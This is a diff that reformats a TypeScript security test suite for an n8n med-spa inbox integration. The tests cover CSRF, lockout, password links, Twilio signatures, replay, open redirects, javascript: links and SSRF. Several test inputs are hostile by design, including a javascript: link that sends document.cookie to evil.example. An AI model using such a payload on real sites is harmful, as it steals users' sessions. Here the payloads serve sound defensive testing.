@@ -24,8 +24,12 @@ let files: Server;
 const PUBLIC_BASE_URL = 'https://n8n.glowmedspa.test';
 const FILE_PORT = 5796 + Number(process.env.AESTHETIX_PORT_OFFSET || 0);
 const PASSWORD = 'Glow-Inbox-2026';
-const WORKSPACE = { aesthetixWorkspaceApi: { id: 'aeWorkspace00001', name: 'Glow Med Spa workspace' } };
-const STRICT_SMTP = { aesthetixSmtpApi: { id: 'aeSmtpStrict0001', name: 'SMTP without private file URLs' } };
+const WORKSPACE = {
+	aesthetixWorkspaceApi: { id: 'aeWorkspace00001', name: 'Glow Med Spa workspace' },
+};
+const STRICT_SMTP = {
+	aesthetixSmtpApi: { id: 'aeSmtpStrict0001', name: 'SMTP without private file URLs' },
+};
 const ids: Record<string, number> = {};
 /** Failed sign-ins after which an account is paused, as the README says. */
 const ACCOUNT_FAILURES = 10;
@@ -36,7 +40,12 @@ const workflows = [
 		name: 'Password Link',
 		type: 'n8n-nodes-aesthetix.workspace',
 		credentials: WORKSPACE,
-		parameters: { resource: 'teamUser', operation: 'passwordLink', userId: '={{ $json.body.id }}', expiresAfterHours: 2 },
+		parameters: {
+			resource: 'teamUser',
+			operation: 'passwordLink',
+			userId: '={{ $json.body.id }}',
+			expiresAfterHours: 2,
+		},
 	}),
 	webhookWorkflow('aeImportWithPass', 'import-with-passwords', {
 		name: 'Import Team',
@@ -91,7 +100,11 @@ const inbox = () => `${stack.host.baseUrl}/webhook/aesthetix/inbox`;
 const newVisitor = () => new Visitor(inbox);
 
 /** A request with any Host header, which fetch does not allow. */
-function rawPost(url: string, headers: Record<string, string>, body: string): Promise<{ status: number; text: string }> {
+function rawPost(
+	url: string,
+	headers: Record<string, string>,
+	body: string,
+): Promise<{ status: number; text: string }> {
 	return new Promise((resolve, reject) => {
 		const req = request(url, { method: 'POST', headers }, (res) => {
 			let text = '';
@@ -105,7 +118,9 @@ function rawPost(url: string, headers: Record<string, string>, body: string): Pr
 }
 
 beforeAll(async () => {
-	files = createServer((req, res) => res.writeHead(200, { 'content-type': 'application/pdf' }).end('%PDF aftercare'));
+	files = createServer((req, res) =>
+		res.writeHead(200, { 'content-type': 'application/pdf' }).end('%PDF aftercare'),
+	);
 	await new Promise<void>((resolve) => files.listen(FILE_PORT, '127.0.0.1', resolve));
 	stack = await startStack({
 		name: 'security',
@@ -116,7 +131,14 @@ beforeAll(async () => {
 			{
 				...STRICT_SMTP.aesthetixSmtpApi,
 				type: 'aesthetixSmtpApi',
-				data: { host: '127.0.0.1', port: smtp.port, secure: false, starttls: 'never', poolSize: 1, rateLimit: 0 },
+				data: {
+					host: '127.0.0.1',
+					port: smtp.port,
+					secure: false,
+					starttls: 'never',
+					poolSize: 1,
+					rateLimit: 0,
+				},
 			},
 		],
 	});
@@ -146,14 +168,20 @@ describe('the workspace file', () => {
 describe('Inbox sign-in', () => {
 	it('refuses a sign-in posted without the form token, as another site would post it', async () => {
 		const visitor = newVisitor();
-		const forged = await visitor.fetch(`${inbox()}/login`, { form: { email: 'maya@glowmedspa.test', password: PASSWORD } });
+		const forged = await visitor.fetch(`${inbox()}/login`, {
+			form: { email: 'maya@glowmedspa.test', password: PASSWORD },
+		});
 		expect(forged.status).toBe(403);
 		expect(forged.text).toContain('This form has expired. Reload the page and try again.');
 		expect(forged.headers.getSetCookie().some((c) => c.startsWith('aesthetix_inbox='))).toBe(false);
 		const page = await visitor.fetch(`${inbox()}/login`);
-		const guessed = await visitor.fetch(`${inbox()}/login`, { form: { csrf: 'guess', email: 'maya@glowmedspa.test', password: PASSWORD } });
+		const guessed = await visitor.fetch(`${inbox()}/login`, {
+			form: { csrf: 'guess', email: 'maya@glowmedspa.test', password: PASSWORD },
+		});
 		expect(guessed.status).toBe(403);
-		const real = await visitor.fetch(`${inbox()}/login`, { form: { csrf: Visitor.csrf(page.text), email: 'maya@glowmedspa.test', password: PASSWORD } });
+		const real = await visitor.fetch(`${inbox()}/login`, {
+			form: { csrf: Visitor.csrf(page.text), email: 'maya@glowmedspa.test', password: PASSWORD },
+		});
 		expect(real.status).toBe(303);
 	});
 
@@ -164,15 +192,21 @@ describe('Inbox sign-in', () => {
 		expect(link.status).toBe(303);
 		const queue = await visitor.fetch(inbox());
 		expect(queue.status).toBe(200);
-		const signOut = await visitor.fetch(`${inbox()}/logout`, { form: { csrf: Visitor.csrf(queue.text) } });
+		const signOut = await visitor.fetch(`${inbox()}/logout`, {
+			form: { csrf: Visitor.csrf(queue.text) },
+		});
 		expect(signOut.headers.get('location')).toBe('/webhook/aesthetix/inbox/login');
-		expect((await visitor.fetch(inbox())).headers.get('location')).toBe('/webhook/aesthetix/inbox/login');
+		expect((await visitor.fetch(inbox())).headers.get('location')).toBe(
+			'/webhook/aesthetix/inbox/login',
+		);
 	});
 
 	it('pauses an account after 10 failed attempts, refusing even the right password, and says when to retry', async () => {
 		const visitor = newVisitor();
 		for (let n = 0; n < ACCOUNT_FAILURES; n++) {
-			expect((await visitor.signIn('owner@glowmedspa.test', `wrong-${n}-password`)).status).toBe(401);
+			expect((await visitor.signIn('owner@glowmedspa.test', `wrong-${n}-password`)).status).toBe(
+				401,
+			);
 		}
 		const paused = await visitor.signIn('owner@glowmedspa.test', PASSWORD);
 		expect(paused.status).toBe(429);
@@ -188,7 +222,13 @@ describe('Inbox sign-in', () => {
 		const huge = await visitor.signIn('sam@glowmedspa.test', 'x'.repeat(15 * 1024 * 1024));
 		expect(huge.status).toBe(401);
 		expect(Date.now() - started).toBeLessThan(10_000);
-		expect((await store.db.get<{ points: number }>('SELECT points FROM inbox_throttle WHERE key = ?', ['signin:account:sam@glowmedspa.test']))?.points).toBe(1);
+		expect(
+			(
+				await store.db.get<{ points: number }>('SELECT points FROM inbox_throttle WHERE key = ?', [
+					'signin:account:sam@glowmedspa.test',
+				])
+			)?.points,
+		).toBe(1);
 	});
 });
 
@@ -197,9 +237,15 @@ describe('set-password links', () => {
 		const before = newVisitor();
 		expect((await before.signIn('sam@glowmedspa.test', PASSWORD)).status).toBe(303);
 		const { json } = await stack.trigger('password-link', { id: ids.sam });
-		expect(json[0]).toMatchObject({ user_id: ids.sam, name: 'Sam Reyes', email: 'sam@glowmedspa.test' });
+		expect(json[0]).toMatchObject({
+			user_id: ids.sam,
+			name: 'Sam Reyes',
+			email: 'sam@glowmedspa.test',
+		});
 		const link: string = json[0].set_password_url;
-		expect(link).toMatch(new RegExp(`^${PUBLIC_BASE_URL}/webhook/aesthetix/inbox/set-password\\?token=[\\w-]{43}$`));
+		expect(link).toMatch(
+			new RegExp(`^${PUBLIC_BASE_URL}/webhook/aesthetix/inbox/set-password\\?token=[\\w-]{43}$`),
+		);
 		expect(Date.parse(json[0].expires_at) - Date.now()).toBeGreaterThan(119 * 60_000);
 		// The proxy at the Public Base URL forwards to n8n.
 		const local = link.replace(PUBLIC_BASE_URL, stack.host.baseUrl);
@@ -207,12 +253,28 @@ describe('set-password links', () => {
 		const form = await sam.fetch(local);
 		expect(form.status).toBe(200);
 		const token = new URL(local).searchParams.get('token')!;
-		const mismatch = await sam.fetch(`${inbox()}/set-password`, { form: { csrf: Visitor.csrf(form.text), token, password: 'Sam-chose-this-1', confirm: 'Sam-chose-that-1' } });
+		const mismatch = await sam.fetch(`${inbox()}/set-password`, {
+			form: {
+				csrf: Visitor.csrf(form.text),
+				token,
+				password: 'Sam-chose-this-1',
+				confirm: 'Sam-chose-that-1',
+			},
+		});
 		expect(mismatch.status).toBe(400);
-		const set = await sam.fetch(`${inbox()}/set-password`, { form: { csrf: Visitor.csrf(form.text), token, password: 'Sam-chose-this-1', confirm: 'Sam-chose-this-1' } });
+		const set = await sam.fetch(`${inbox()}/set-password`, {
+			form: {
+				csrf: Visitor.csrf(form.text),
+				token,
+				password: 'Sam-chose-this-1',
+				confirm: 'Sam-chose-this-1',
+			},
+		});
 		expect(set.status).toBe(303);
 		expect(set.headers.get('location')).toBe('/webhook/aesthetix/inbox/login?password=set');
-		expect((await before.fetch(inbox())).headers.get('location')).toBe('/webhook/aesthetix/inbox/login');
+		expect((await before.fetch(inbox())).headers.get('location')).toBe(
+			'/webhook/aesthetix/inbox/login',
+		);
 		expect((await sam.signIn('sam@glowmedspa.test', PASSWORD)).status).toBe(401);
 		expect((await sam.signIn('sam@glowmedspa.test', 'Sam-chose-this-1')).status).toBe(303);
 		const again = await newVisitor().fetch(local);
@@ -221,8 +283,12 @@ describe('set-password links', () => {
 	});
 
 	it('refuses an imported list that carries passwords', async () => {
-		const { json } = await stack.trigger('import-with-passwords', { users: [{ name: 'Pat Doe', email: 'pat@glowmedspa.test', password: 'Pat-password-1' }] });
-		expect(json[0].error).toMatchObject({ message: 'Users: entry 1 has a password, and imported lists carry none' });
+		const { json } = await stack.trigger('import-with-passwords', {
+			users: [{ name: 'Pat Doe', email: 'pat@glowmedspa.test', password: 'Pat-password-1' }],
+		});
+		expect(json[0].error).toMatchObject({
+			message: 'Users: entry 1 has a password, and imported lists carry none',
+		});
 		expect(await store.teamUsers.findByEmail('pat@glowmedspa.test')).toBeUndefined();
 	});
 });
@@ -240,12 +306,17 @@ describe('Twilio callbacks behind a proxy', () => {
 	const post = (params: Record<string, string>, signedUrl: string) =>
 		fetch(`${stack.host.baseUrl}${path}`, {
 			method: 'POST',
-			headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': twilioSignature(stack.twilio.authToken, signedUrl, params) },
+			headers: {
+				'content-type': 'application/x-www-form-urlencoded',
+				'x-twilio-signature': twilioSignature(stack.twilio.authToken, signedUrl, params),
+			},
 			body: new URLSearchParams(params).toString(),
 		});
 	const logged = async (phone: string) => {
 		const contact = await store.contacts.findByEmailOrPhone(null, phone);
-		return contact ? (await store.conversations.forContact(contact.id)).filter((m) => m.direction === 'inbound') : [];
+		return contact
+			? (await store.conversations.forContact(contact.id)).filter((m) => m.direction === 'inbound')
+			: [];
 	};
 
 	it('accepts a callback signed for the Public Base URL, and refuses one signed for the Host n8n was reached at', async () => {
@@ -260,19 +331,23 @@ describe('Twilio callbacks behind a proxy', () => {
 	it('acts on a replayed callback once', async () => {
 		const stop = text('+15552220002', 'STOP');
 		expect((await post(stop, `${PUBLIC_BASE_URL}${path}`)).status).toBe(200);
-		expect((await store.contacts.findByEmailOrPhone(null, '+15552220002'))?.sms_opted_out).toBe(true);
+		expect((await store.contacts.findByEmailOrPhone(null, '+15552220002'))?.sms_opted_out).toBe(
+			true,
+		);
 		const start = text('+15552220002', 'START');
 		start.MessageSid = `SM2222${'1'.repeat(28)}`;
 		expect((await post(start, `${PUBLIC_BASE_URL}${path}`)).status).toBe(200);
 		// The captured STOP, posted again, is answered but changes nothing.
 		const replay = await post(stop, `${PUBLIC_BASE_URL}${path}`);
 		expect(replay.status).toBe(200);
-		expect((await store.contacts.findByEmailOrPhone(null, '+15552220002'))?.sms_opted_out).toBe(false);
+		expect((await store.contacts.findByEmailOrPhone(null, '+15552220002'))?.sms_opted_out).toBe(
+			false,
+		);
 		expect((await logged('+15552220002')).map((m) => m.body)).toEqual(['STOP', 'START']);
-		const receipts = await store.db.all('SELECT replay_key FROM webhook_receipts WHERE replay_key IN (?, ?)', [
-			`twilio:inbound:${stop.MessageSid}`,
-			`twilio:inbound:${start.MessageSid}`,
-		]);
+		const receipts = await store.db.all(
+			'SELECT replay_key FROM webhook_receipts WHERE replay_key IN (?, ?)',
+			[`twilio:inbound:${stop.MessageSid}`, `twilio:inbound:${start.MessageSid}`],
+		);
 		expect(receipts).toHaveLength(2);
 	});
 
@@ -281,7 +356,15 @@ describe('Twilio callbacks behind a proxy', () => {
 		const body = new URLSearchParams(params).toString();
 		const badHost = await rawPost(
 			`${stack.host.baseUrl}${path}`,
-			{ host: 'bad host!', 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': twilioSignature(stack.twilio.authToken, `http://bad host!${path}`, params) },
+			{
+				host: 'bad host!',
+				'content-type': 'application/x-www-form-urlencoded',
+				'x-twilio-signature': twilioSignature(
+					stack.twilio.authToken,
+					`http://bad host!${path}`,
+					params,
+				),
+			},
 			body,
 		);
 		expect(badHost.status).toBe(403);
@@ -305,9 +388,15 @@ describe('Twilio callbacks behind a proxy', () => {
 
 describe('what workflows render and download', () => {
 	it('refuses a Redirect Page on another site, and keeps a workspace path', async () => {
-		for (const page of ['https://evil.example/login', '//evil.example/login', 'javascript:alert(1)']) {
+		for (const page of [
+			'https://evil.example/login',
+			'//evil.example/login',
+			'javascript:alert(1)',
+		]) {
 			const { json } = await stack.trigger('notify-redirect', { page });
-			expect(json[0].error.message).toBe(`Redirect Page "${page}" must be a workspace path such as /contacts/12 or an address on n8n.glowmedspa.test`);
+			expect(json[0].error.message).toBe(
+				`Redirect Page "${page}" must be a workspace path such as /contacts/12 or an address on n8n.glowmedspa.test`,
+			);
 		}
 		const ok = await stack.trigger('notify-redirect', { page: `${PUBLIC_BASE_URL}/contacts/7` });
 		expect(ok.json[0].error).toBeUndefined();
@@ -317,25 +406,42 @@ describe('what workflows render and download', () => {
 
 	it('refuses to email a link whose custom value is javascript:, and sends a web link', async () => {
 		stack.smtp.reset();
-		const bad = await stack.trigger('email-link', { contact: { first_name: 'Eve', email: 'eve@example.com', website: 'javascript:fetch("//evil.example/"+document.cookie)' } });
-		expect(bad.json[0].error.message).toBe('Message could not be rendered: the link from {{contact.website}} starts with "javascript:", and links may not run script or carry data');
-		const good = await stack.trigger('email-link', { contact: { first_name: 'Ana', email: 'ana@example.com', website: 'https://ana.example/' } });
+		const bad = await stack.trigger('email-link', {
+			contact: {
+				first_name: 'Eve',
+				email: 'eve@example.com',
+				website: 'javascript:fetch("//evil.example/"+document.cookie)',
+			},
+		});
+		expect(bad.json[0].error.message).toBe(
+			'Message could not be rendered: the link from {{contact.website}} starts with "javascript:", and links may not run script or carry data',
+		);
+		const good = await stack.trigger('email-link', {
+			contact: { first_name: 'Ana', email: 'ana@example.com', website: 'https://ana.example/' },
+		});
 		expect(good.json[0].error).toBeUndefined();
 		const [mail] = await stack.smtp.waitForMessages(1);
 		// The web link goes out as a tracked link (Email Delivery Statistics) that leads to the page.
 		const tracked = /<a href="([^"]+)">your page<\/a>/.exec(mail.html)![1];
 		expect(tracked.startsWith(`${PUBLIC_BASE_URL}/webhook/aesthetix/email/click?t=`)).toBe(true);
-		const followed = await fetch(tracked.replace(PUBLIC_BASE_URL, stack.host.baseUrl), { redirect: 'manual' });
+		const followed = await fetch(tracked.replace(PUBLIC_BASE_URL, stack.host.baseUrl), {
+			redirect: 'manual',
+		});
 		expect(followed.headers.get('location')).toBe('https://ana.example/');
 		expect(stack.smtp.messages).toHaveLength(1);
 	});
 
 	it('refuses an attachment from a loopback address unless the SMTP credential allows private networks', async () => {
 		stack.smtp.reset();
-		const { json } = await stack.trigger('email-private-file', { contact: { email: 'ana@example.com' }, url: `http://127.0.0.1:${FILE_PORT}/aftercare.pdf` });
+		const { json } = await stack.trigger('email-private-file', {
+			contact: { email: 'ana@example.com' },
+			url: `http://127.0.0.1:${FILE_PORT}/aftercare.pdf`,
+		});
 		expect(json[0].error).toEqual({
 			message: `Add Attachments: File URL "http://127.0.0.1:${FILE_PORT}/aftercare.pdf" could not be downloaded: 127.0.0.1 is at 127.0.0.1, a private or local network address`,
-			description: expect.stringContaining('turn on Allow File URLs on Private Networks in the SMTP credential'),
+			description: expect.stringContaining(
+				'turn on Allow File URLs on Private Networks in the SMTP credential',
+			),
 		});
 		expect(stack.smtp.messages).toHaveLength(0);
 	});
